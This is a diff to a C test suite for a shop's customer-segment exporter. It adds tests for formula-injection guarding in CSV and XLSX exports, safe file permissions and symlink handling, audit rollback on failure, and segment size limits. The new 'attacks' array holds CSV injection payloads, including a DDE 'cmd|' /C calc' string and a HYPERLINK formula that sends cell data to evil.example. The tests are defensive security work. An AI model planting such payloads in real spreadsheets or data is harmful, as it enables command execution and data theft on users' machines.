@@ -3,6 +3,7 @@
 
 #include <math.h>
 #include <string.h>
+#include <sys/time.h>
 #include <unistd.h>
 #include <archive.h>
 #include <archive_entry.h>
@@ -576,8 +577,8 @@ test_export_text (Fixture       *f,
   csv = export (f, segment, "out.csv", &options, &result);
   g_assert_cmpstr (csv, ==,
                    "\xEF\xBB\xBFID,Name,Phone,City,Tags,Net spend\r\n"
-                   "1,王芳,+8613800138000,杭州,VIP,410.00\r\n"
-                   "2,\"李雷, \"\"Lei\"\"; a\\b\",+8613912345678,上海,,999.00\r\n");
+                   "1,王芳,13800138000,杭州,VIP,410.00\r\n"
+                   "2,\"李雷, \"\"Lei\"\"; a\\b\",13912345678,上海,,999.00\r\n");
   g_assert_cmpint (result.matched, ==, 4);
   g_assert_cmpint (result.excluded, ==, 2);
   g_assert_cmpint (result.exported, ==, 2);
@@ -626,7 +627,8 @@ test_export_text (Fixture       *f,
     sqlite3_finalize (stmt);
     g_assert_cmpstr (detail, ==, "{\"segment\":\"Everyone\",\"touch_id\":1,\"format\":\"csv\",\"count\":2,"
                                  "\"excluded\":2,\"held_out\":0,\"fields\":[\"id\",\"name\",\"phone\",\"city\","
-                                 "\"tags\",\"net_spend\"],\"masked\":false,\"file\":\"out.csv\"}");
+                                 "\"tags\",\"net_spend\"],\"masked\":false,\"unknown_consent\":\"unset\","
+                                 "\"file\":\"out.csv\"}");
   }
 }
 
@@ -761,18 +763,463 @@ test_export_failures (Fixture       *f,
   g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop),
                                       "SELECT count (*) FROM audit_log WHERE action = 'export'", NULL), ==, 0);
 
-  /* A segment that matches nobody gives a file with only the header. */
+  /* A segment that matches nobody is no export: it says why and writes nothing. */
   {
     g_autoptr(JsonNode) node = parse ("{\"match\":\"any\",\"conditions\":[]}");
     gint64 none = siyu_segment_create (f->shop, "Nobody", node, &error);
+    g_autofree char *empty = g_build_filename (f->dir, "empty.csv", NULL);
     SiyuExportResult result;
-    g_autofree char *empty = NULL;
 
     options.format = SIYU_EXPORT_CSV;
-    empty = export (f, none, "empty.csv", &options, &result);
-    g_assert_cmpstr (empty, ==, "\xEF\xBB\xBFID,Name,Phone,City,Stage,Tier,Last order,Net spend\r\n");
+    g_assert_false (siyu_export_segment (f->shop, none, empty, &options, &result, &error));
+    g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_NOBODY);
+    g_assert_cmpstr (error->message, ==, "Nobody was exported: no one is in this list today.");
+    g_clear_error (&error);
+    g_assert_false (g_file_test (empty, G_FILE_TEST_EXISTS));
     g_assert_cmpint (result.matched, ==, 0);
     g_assert_cmpint (result.exported, ==, 0);
+    g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop), "SELECT count (*) FROM touches", NULL), ==, 0);
+  }
+}
+
+/* Issue 15, item 7: the attack strings of the review, in every field a
+ * person can fill, come out of a CSV export as text. */
+static const char * const attacks[] = {
+  "-1+cmd|' /C calc'!A0",
+  "+1+HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+  "=1+1",
+  "@SUM(1,2)",
+  "\t=1+1",
+  "-1250",
+};
+
+static gint64
+add_attacker (SiyuShop   *shop,
+              const char *name,
+              const char *phone,
+              const char *city)
+{
+  g_autoptr(SiyuIngest) ingest = siyu_ingest_new (shop);
+
+  return add (ingest, shop, name, phone, NULL, city, 1, 0, NULL);
+}
+
+static void
+test_csv_guard (Fixture       *f,
+                gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(JsonNode) node = parse ("{\"match\":\"all\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"=HYPERLINK(1)\"}]}");
+  const char * const fields[] = { "id", "name", "phone", "city", "tags", NULL };
+  SiyuExportOptions options = { SIYU_EXPORT_CSV, fields, FALSE, 0.0, 0, 0, 0 };
+  SiyuExportResult result;
+  g_autofree char *csv = NULL;
+  g_autofree char *xlsx = NULL;
+  g_autofree char *sheet = NULL;
+  g_autofree char *xlsx_path = g_build_filename (f->dir, "attack.xlsx", NULL);
+  g_autoptr(SiyuIngest) ingest = siyu_ingest_new (f->shop);
+  gint64 segment;
+
+  for (guint i = 0; i < G_N_ELEMENTS (attacks); i++)
+    {
+      g_autofree char *phone = g_strdup_printf ("1390000000%u", i);
+      gint64 id = add_attacker (f->shop, attacks[i], phone, attacks[(i + 1) % G_N_ELEMENTS (attacks)]);
+
+      g_assert_cmpint (id, ==, 6 + i);
+      g_assert_true (siyu_ingest_tag (ingest, id, "=HYPERLINK(1)", "manual", 1, &error));
+      g_assert_no_error (error);
+    }
+  /* A foreign number keeps its +, and so gets the guard too. */
+  {
+    gint64 id = add_attacker (f->shop, "Ann", "+447911123456", "London");
+
+    g_assert_true (siyu_ingest_tag (ingest, id, "=HYPERLINK(1)", "manual", 1, &error));
+  }
+  segment = siyu_segment_create (f->shop, "Attackers", node, &error);
+  g_assert_no_error (error);
+
+  csv = export (f, segment, "attack.csv", &options, &result);
+  g_assert_cmpint (result.exported, ==, 7);
+  g_assert_cmpstr (csv, ==,
+                   "\xEF\xBB\xBFID,Name,Phone,City,Tags\r\n"
+                   "6,'-1+cmd|' /C calc'!A0,13900000000,\"'+1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'=HYPERLINK(1)\r\n"
+                   "7,\"'+1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",13900000001,'=1+1,'=HYPERLINK(1)\r\n"
+                   "8,'=1+1,13900000002,\"'@SUM(1,2)\",'=HYPERLINK(1)\r\n"
+                   "9,\"'@SUM(1,2)\",13900000003,\"'\t=1+1\",'=HYPERLINK(1)\r\n"
+                   "10,\"'\t=1+1\",13900000004,-1250,'=HYPERLINK(1)\r\n"
+                   "11,-1250,13900000005,'-1+cmd|' /C calc'!A0,'=HYPERLINK(1)\r\n"
+                   "12,Ann,'+447911123456,London,'=HYPERLINK(1)\r\n");
+
+  /* XLSX writes text cells, never formulas: the same strings as they are. */
+  options.format = SIYU_EXPORT_XLSX;
+  xlsx = export (f, segment, "attack.xlsx", &options, &result);
+  sheet = read_zip_member (xlsx_path, "xl/worksheets/sheet1.xml");
+  g_assert_null (strstr (sheet, "<f>"));
+  g_assert_nonnull (strstr (sheet, "<c r=\"B2\" t=\"inlineStr\"><is><t>-1+cmd|' /C calc'!A0</t></is></c>"));
+  g_assert_nonnull (strstr (sheet, "<c r=\"C8\" t=\"inlineStr\"><is><t>+447911123456</t></is></c>"));
+  g_assert_nonnull (strstr (sheet, "<c r=\"C2\" t=\"inlineStr\"><is><t>13900000000</t></is></c>"));
+}
+
+/* Issue 15, item 8: every format is written 0600, and a link planted at
+ * the target is replaced, never written through. */
+static void
+test_export_files (Fixture       *f,
+                   gconstpointer  data)
+{
+  static const char * const names[] = { "out.csv", "out.xlsx", "out.vcf", "out.txt" };
+  gint64 segment = everyone (f);
+  g_autofree char *victim = g_build_filename (f->dir, "victim", NULL);
+
+  g_assert_true (g_file_set_contents (victim, "keep", -1, NULL));
+  for (guint format = SIYU_EXPORT_CSV; format <= SIYU_EXPORT_PHONES; format++)
+    {
+      SiyuExportOptions options = { format, NULL, FALSE, 0.0, 0, 0, 0 };
+      g_autofree char *path = g_build_filename (f->dir, names[format], NULL);
+      g_autofree char *kept = NULL;
+      GStatBuf st;
+
+      g_assert_cmpint (symlink (victim, path), ==, 0);
+      g_free (export (f, segment, names[format], &options, NULL));
+      g_assert_cmpint (g_lstat (path, &st), ==, 0);
+      g_assert_true (S_ISREG (st.st_mode));
+      g_assert_cmpint (st.st_mode & 0777, ==, 0600);
+      kept = siyu_test_read_file (victim, NULL);
+      g_assert_cmpstr (kept, ==, "keep");
+    }
+  /* The shop file and its -wal and -shm, the victim and the four exports:
+   * no temporary file. */
+  g_assert_cmpuint (count_files (f->dir), ==, 8);
+}
+
+typedef struct {
+  const char *path;
+  gboolean    refuse;
+  guint       calls;
+} CommitHook;
+
+/* Runs at the export's commit: either refuses it, as a failing disk would,
+ * or puts a folder where the file is about to be renamed to. */
+static int
+commit_hook (void *data)
+{
+  CommitHook *hook = data;
+  g_autofree char *inside = NULL;
+
+  if (hook->refuse)
+    return 1;
+  /* The second commit is the one that takes the record back. */
+  if (hook->calls++ > 0)
+    return 0;
+  g_assert_cmpint (g_mkdir (hook->path, 0700), ==, 0);
+  inside = g_build_filename (hook->path, "keep", NULL);
+  g_assert_true (g_file_set_contents (inside, "", -1, NULL));
+
+  return 0;
+}
+
+static gint64
+count_of (SiyuShop   *shop,
+          const char *sql)
+{
+  return siyu_db_query_int (siyu_shop_get_db (shop), sql, NULL);
+}
+
+/* Issue 18, item 2: the record is committed before the file is renamed,
+ * and a failed rename takes the record back; a failed commit leaves no
+ * file.  Either way no temporary file stays. */
+static void
+test_export_then_audit (Fixture       *f,
+                        gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  gint64 segment = everyone (f);
+  SiyuExportOptions options = { SIYU_EXPORT_CSV, NULL, FALSE, 0.0, 0, 0, 0 };
+  g_autofree char *out_dir = g_build_filename (f->dir, "out", NULL);
+  g_autofree char *path = g_build_filename (out_dir, "list.csv", NULL);
+  sqlite3 *handle = siyu_db_get_handle (siyu_shop_get_db (f->shop));
+  CommitHook hook = { path, FALSE, 0 };
+  SiyuExportResult result;
+
+  g_assert_cmpint (g_mkdir (out_dir, 0700), ==, 0);
+
+  /* The rename fails after the commit. */
+  sqlite3_commit_hook (handle, commit_hook, &hook);
+  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
+  sqlite3_commit_hook (handle, NULL, NULL);
+  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
+  g_assert_nonnull (strstr (error->message, "list.csv"));
+  g_assert_null (strstr (error->message, ".siyu-"));
+  g_clear_error (&error);
+  g_assert_cmpint (result.touch_id, ==, 0);
+  g_assert_cmpint (result.exported, ==, 0);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 0);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touch_members"), ==, 0);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM audit_log WHERE action = 'export'"), ==, 0);
+  g_assert_true (g_file_test (path, G_FILE_TEST_IS_DIR));
+  g_assert_cmpuint (count_files (out_dir), ==, 1);
+  g_assert_cmpuint (hook.calls, ==, 2);
+  {
+    g_autofree char *inside = g_build_filename (path, "keep", NULL);
+
+    g_assert_cmpint (g_remove (inside), ==, 0);
+    g_assert_cmpint (g_rmdir (path), ==, 0);
+  }
+
+  /* The commit fails: no file under the name, none hidden. */
+  hook.refuse = TRUE;
+  sqlite3_commit_hook (handle, commit_hook, &hook);
+  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
+  sqlite3_commit_hook (handle, NULL, NULL);
+  g_assert_nonnull (error);
+  g_clear_error (&error);
+  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
+  g_assert_cmpuint (count_files (out_dir), ==, 0);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 0);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM audit_log WHERE action = 'export'"), ==, 0);
+
+  /* Cancelled: no file, none hidden, nothing recorded. */
+  {
+    g_autoptr(GCancellable) cancellable = g_cancellable_new ();
+
+    g_cancellable_cancel (cancellable);
+    options.cancellable = cancellable;
+    g_assert_false (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
+    g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+    g_clear_error (&error);
+    options.cancellable = NULL;
+    g_assert_cmpuint (count_files (out_dir), ==, 0);
+    g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 0);
+  }
+
+  /* Then it works: one touch, one audit line, one file. */
+  g_assert_true (siyu_export_segment (f->shop, segment, path, &options, &result, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM touches"), ==, 1);
+  g_assert_cmpint (count_of (f->shop, "SELECT count (*) FROM audit_log WHERE action = 'export'"), ==, 1);
+  g_assert_cmpuint (count_files (out_dir), ==, 1);
+}
+
+/* Issue 18, item 5: a full disk during an XLSX export names the owner's
+ * file and says there is no space left. */
+static void
+test_export_xlsx_full (Fixture       *f,
+                       gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  gint64 segment = everyone (f);
+  SiyuExportOptions options = { SIYU_EXPORT_XLSX, NULL, FALSE, 0.0, 0, 0, 0 };
+  g_autofree char *path = g_build_filename (f->dir, "客户.xlsx", NULL);
+
+  siyu_export_set_write_limit_for_tests (100);
+  g_assert_false (siyu_export_segment (f->shop, segment, path, &options, NULL, &error));
+  siyu_export_set_write_limit_for_tests (-1);
+  g_assert_error (error, SIYU_EXPORT_ERROR, SIYU_EXPORT_ERROR_WRITE);
+  {
+    g_autofree char *expected = g_strdup_printf ("Could not write %s: %s", path, g_strerror (ENOSPC));
+
+    g_assert_cmpstr (error->message, ==, expected);
+  }
+  g_assert_cmpuint (count_files (f->dir), ==, 3);
+}
+
+static void
+touch_file (const char *path,
+            gint64      mtime)
+{
+  struct timeval times[2] = { { mtime, 0 }, { mtime, 0 } };
+
+  g_assert_true (g_file_set_contents (path, "13800138000\r\n", -1, NULL));
+  g_assert_cmpint (g_chmod (path, 0600), ==, 0);
+  g_assert_cmpint (utimes (path, times), ==, 0);
+}
+
+/* Issue 18, item 2: what a killed export left beside the shop, or in the
+ * folder exports go to, is removed when the shop is opened again, once it
+ * is older than a minute; nothing else is. */
+static void
+test_export_leftovers (Fixture       *f,
+                       gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  gint64 now = g_get_real_time () / G_USEC_PER_SEC;
+  g_autofree char *folder = g_build_filename (f->dir, "exports", NULL);
+  g_autofree char *stale = g_build_filename (f->dir, ".list.csv.siyu-Ab12Cd", NULL);
+  g_autofree char *stale_away = g_build_filename (folder, ".龙井.xlsx.siyu-x9Y8z7", NULL);
+  g_autofree char *fresh = g_build_filename (f->dir, ".list.csv.siyu-Zz99Zz", NULL);
+  g_autofree char *other = g_build_filename (f->dir, ".list.csv.X1b2C3", NULL);
+  g_autofree char *owners = g_build_filename (f->dir, "list.csv.siyu-Ab12Cd", NULL);
+  g_autofree char *link = g_build_filename (f->dir, ".link.csv.siyu-Qq11Qq", NULL);
+  SiyuExportPrefs prefs = { SIYU_EXPORT_CSV, NULL, FALSE, folder };
+
+  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
+  g_assert_true (siyu_export_save_prefs (f->shop, &prefs, &error));
+  g_assert_no_error (error);
+  touch_file (stale, now - 120);
+  touch_file (stale_away, now - 3600);
+  touch_file (fresh, now - 10);
+  touch_file (other, now - 3600);
+  touch_file (owners, now - 3600);
+  g_assert_cmpint (symlink (other, link), ==, 0);
+
+  g_clear_object (&f->shop);
+  f->shop = siyu_shop_open (f->path, &error);
+  g_assert_no_error (error);
+
+  g_assert_false (g_file_test (stale, G_FILE_TEST_EXISTS));
+  g_assert_false (g_file_test (stale_away, G_FILE_TEST_EXISTS));
+  g_assert_true (g_file_test (fresh, G_FILE_TEST_EXISTS));
+  g_assert_true (g_file_test (other, G_FILE_TEST_EXISTS));
+  g_assert_true (g_file_test (owners, G_FILE_TEST_EXISTS));
+  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
+}
+
+/* n conditions, each @pattern with its number in place of the #. */
+static char *
+conditions (guint       n,
+            const char *pattern,
+            guint       offset)
+{
+  g_auto(GStrv) parts = g_strsplit (pattern, "#", 2);
+  GString *out = g_string_new (NULL);
+
+  for (guint i = 0; i < n; i++)
+    {
+      if (i > 0)
+        g_string_append_c (out, ',');
+      g_string_append (out, parts[0]);
+      if (parts[1] != NULL)
+        g_string_append_printf (out, "%u%s", i + offset, parts[1]);
+    }
+
+  return g_string_free (out, FALSE);
+}
+
+static void
+assert_count (SiyuShop   *shop,
+              const char *json,
+              gint64      expected)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(JsonNode) node = parse (json);
+  gint64 total = -1, unreachable = -1;
+
+  g_assert_true (siyu_segment_check (node, &error));
+  g_assert_no_error (error);
+  g_assert_true (siyu_segment_count (shop, node, &total, &unreachable, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (total, ==, expected);
+}
+
+/* Issue 15, item 10: a segment at every size the editor allows is counted
+ * by SQLite: 1,000 conditions in one group, any or all, of the costliest
+ * kinds, and groups nested 16 deep. */
+static void
+test_limits (Fixture       *f,
+             gconstpointer  data)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *ors = conditions (999, "{\"field\":\"city\",\"op\":\"is\",\"value\":\"城市#\"}", 0);
+  g_autofree char *ands = conditions (1000, "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"城市#\"}", 0);
+  g_autofree char *deep_kind = conditions (1000, "{\"field\":\"tier\",\"op\":\"at_least\",\"value\":\"T#\"}", 0);
+  g_autofree char *mixed = NULL;
+  g_autofree char *json = NULL;
+  GString *nested;
+  gint64 id;
+
+  /* 999 cities nobody lives in, and 上海: 2 (李雷; 钱多 is erased); one
+   * IN list of 1,000 values. */
+  json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s,{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"}]}", ors);
+  assert_count (f->shop, json, 1);
+  {
+    g_autoptr(JsonNode) node = parse (json);
+    g_autoptr(SiyuSegmentQuery) query = siyu_segment_query_new (f->shop, node, &error);
+
+    g_assert_no_error (error);
+    g_assert_true (g_str_has_prefix (siyu_segment_query_get_condition (query), "((c.city IN (?, ?, "));
+    g_assert_cmpuint (siyu_segment_query_get_n_params (query), ==, 1000);
+  }
+  /* Merged or not, the same people: any of 杭州, dormant, 上海; none of 上海, 杭州. */
+  assert_members (f->shop, "{\"match\":\"any\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"杭州\"},"
+                  "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"dormant\"},"
+                  "{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"},"
+                  "{\"field\":\"stage\",\"op\":\"in\",\"value\":[\"prospect\"]}]}", "1,2,3");
+  assert_members (f->shop, "{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"杭州\"},"
+                  "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"上海\"},"
+                  "{\"field\":\"stage\",\"op\":\"is_not\",\"value\":\"prospect\"}]}", "4");
+  g_clear_pointer (&json, g_free);
+  json = g_strdup_printf ("{\"match\":\"all\",\"conditions\":[%s]}", ands);
+  assert_count (f->shop, json, 4);
+  /* Saved, counted and exported, as the editor allows. */
+  {
+    g_autoptr(JsonNode) node = parse (json);
+
+    id = siyu_segment_create (f->shop, "1,000 cities", node, &error);
+    g_assert_no_error (error);
+  }
+  {
+    SiyuExportOptions options = { SIYU_EXPORT_PHONES, NULL, FALSE, 0.0, 0, 0, 0 };
+    SiyuExportResult result;
+    g_autofree char *phones = export (f, id, "all.txt", &options, &result);
+
+    g_assert_cmpstr (phones, ==, "13800138000\r\n13912345678\r\n");
+  }
+  g_clear_pointer (&json, g_free);
+  json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s]}", deep_kind);
+  assert_count (f->shop, json, 0);
+  g_clear_pointer (&json, g_free);
+
+  /* Subqueries of every kind, 125 of each. */
+  {
+    g_autofree char *tags = conditions (125, "{\"field\":\"tag\",\"op\":\"has\",\"value\":\"t#\"}", 0);
+    g_autofree char *products = conditions (125, "{\"field\":\"product\",\"op\":\"bought\",\"value\":\"p#\",\"days\":30}", 0);
+    g_autofree char *orders = conditions (125, "{\"field\":\"orders\",\"op\":\">\",\"value\":#,\"days\":90}", 10);
+    g_autofree char *events = conditions (125, "{\"field\":\"event\",\"op\":\"happened\",\"value\":\"view\",\"days\":#}", 1);
+    g_autofree char *groups = conditions (125, "{\"field\":\"group\",\"op\":\"member\",\"value\":#}", 100);
+    g_autofree char *top = conditions (125, "{\"field\":\"net_spend\",\"op\":\"top_percent\",\"value\":100}", 0);
+    g_autofree char *gaps = conditions (125, "{\"field\":\"next_tier_gap_percent\",\"op\":\"<\",\"value\":#}", 0);
+    g_autofree char *touches = conditions (125, "{\"field\":\"touches\",\"op\":\">\",\"value\":#,\"days\":7}", 0);
+
+    mixed = g_strjoin (",", tags, products, orders, events, groups, top, gaps, touches, NULL);
+  }
+  json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s]}", mixed);
+  /* Only the top_percent ones match: 100 % of buyers is 王芳, 李雷 and 周杰. */
+  assert_count (f->shop, json, 3);
+  g_clear_pointer (&json, g_free);
+  json = g_strdup_printf ("{\"match\":\"all\",\"conditions\":[%s]}", mixed);
+  assert_count (f->shop, json, 0);
+  g_clear_pointer (&json, g_free);
+
+  /* 16 groups deep, each with 61 conditions and the next group last, the
+   * costliest conditions at the bottom: 16 × 62 − 1 = 991 members. */
+  for (guint shape = 0; shape < 2; shape++)
+    {
+      nested = g_string_new (NULL);
+      for (guint level = 0; level < 16; level++)
+        {
+          g_autofree char *here = conditions (61, level < 15 ? "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"城#\"}"
+                                                             : "{\"field\":\"tier\",\"op\":\"is_not\",\"value\":\"T#\"}",
+                                              level * 100);
+
+          g_string_append_printf (nested, "{\"match\":\"%s\",\"conditions\":[%s%s", shape == 0 ? "all" : (level % 2 ? "any" : "all"),
+                                  here, level < 15 ? "," : "");
+        }
+      for (guint level = 0; level < 16; level++)
+        g_string_append (nested, "]}");
+      assert_count (f->shop, nested->str, 4);
+      g_string_free (nested, TRUE);
+    }
+
+  /* One more condition is refused, with the reason. */
+  {
+    g_autofree char *too_many = conditions (1001, "{\"field\":\"city\",\"op\":\"is\",\"value\":\"城市#\"}", 0);
+    g_autoptr(JsonNode) node = NULL;
+
+    g_clear_pointer (&json, g_free);
+    json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s]}", too_many);
+    node = parse (json);
+    g_assert_false (siyu_segment_check (node, &error));
+    g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_INVALID);
+    g_assert_cmpstr (error->message, ==, "The segment has more than 1000 conditions.");
   }
 }
 
@@ -992,7 +1439,8 @@ test_cli (Fixture       *f,
   g_clear_pointer (&out, g_free);
   g_clear_pointer (&err, g_free);
   g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "count", "沉睡的高消费客户", "--json", "--db", f->path, NULL), ==, 0);
-  g_assert_cmpstr (out, ==, "{\n  \"count\" : 1,\n  \"unreachable\" : 0\n}\n");
+  g_assert_cmpstr (out, ==, "{\n  \"count\" : 1,\n  \"unreachable\" : 0,\n  \"given\" : 1,\n  \"unknown\" : 0,\n"
+                            "  \"refused\" : 0,\n  \"do_not_contact\" : 0\n}\n");
   g_clear_pointer (&out, g_free);
   g_clear_pointer (&err, g_free);
   g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "export", "VIP", "--format", "csv", "--fields", "id,name",
@@ -1047,8 +1495,8 @@ test_demo (void)
   g_assert_cmpint (result.excluded, ==, 52);
   g_assert_cmpint (result.exported, ==, 102);
   g_assert_true (g_str_has_prefix (csv, "\xEF\xBB\xBFID,Name,Phone,Email,City,Stage,Tier,Last order,Net spend\r\n"
-                                        "33,林玲,+8619900265753,,杭州,dormant,,2026-07-15,2666.00\r\n"
-                                        "34,宋文超,+8619900273672,,上海,dormant,,2026-07-23,1663.00\r\n"));
+                                        "33,林玲,19900265753,,杭州,dormant,,2026-07-15,2666.00\r\n"
+                                        "34,宋文超,19900273672,,上海,dormant,,2026-07-23,1663.00\r\n"));
   lines = g_strsplit (csv, "\r\n", -1);
   g_assert_cmpuint (g_strv_length (lines), ==, 104);
 
@@ -1057,7 +1505,7 @@ test_demo (void)
   g_assert_cmpint (result.exported, ==, 102);
   sheet = read_zip_member (xlsx_path, "xl/worksheets/sheet1.xml");
   g_assert_nonnull (strstr (sheet, "<c r=\"A2\"><v>33</v></c><c r=\"B2\" t=\"inlineStr\"><is><t>林玲</t></is></c>"
-                                   "<c r=\"C2\" t=\"inlineStr\"><is><t>+8619900265753</t></is></c>"));
+                                   "<c r=\"C2\" t=\"inlineStr\"><is><t>19900265753</t></is></c>"));
   g_assert_nonnull (strstr (sheet, "<row r=\"103\""));
   g_assert_null (strstr (sheet, "<row r=\"104\""));
 
@@ -1092,6 +1540,12 @@ main (int    argc,
   g_test_add ("/siyu/segments/export-text", Fixture, NULL, set_up, test_export_text, tear_down);
   g_test_add ("/siyu/segments/export-xlsx", Fixture, NULL, set_up, test_export_xlsx, tear_down);
   g_test_add ("/siyu/segments/export-failures", Fixture, NULL, set_up, test_export_failures, tear_down);
+  g_test_add ("/siyu/segments/csv-guard", Fixture, NULL, set_up, test_csv_guard, tear_down);
+  g_test_add ("/siyu/segments/export-files", Fixture, NULL, set_up, test_export_files, tear_down);
+  g_test_add ("/siyu/segments/export-then-audit", Fixture, NULL, set_up, test_export_then_audit, tear_down);
+  g_test_add ("/siyu/segments/export-xlsx-full", Fixture, NULL, set_up, test_export_xlsx_full, tear_down);
+  g_test_add ("/siyu/segments/export-leftovers", Fixture, NULL, set_up, test_export_leftovers, tear_down);
+  g_test_add ("/siyu/segments/limits", Fixture, NULL, set_up, test_limits, tear_down);
   g_test_add_func ("/siyu/segments/holdout-draw", test_holdout_draw);
   g_test_add_func ("/siyu/segments/uplift", test_uplift);
   g_test_add ("/siyu/segments/too-few", Fixture, NULL, set_up, test_too_few, tear_down);
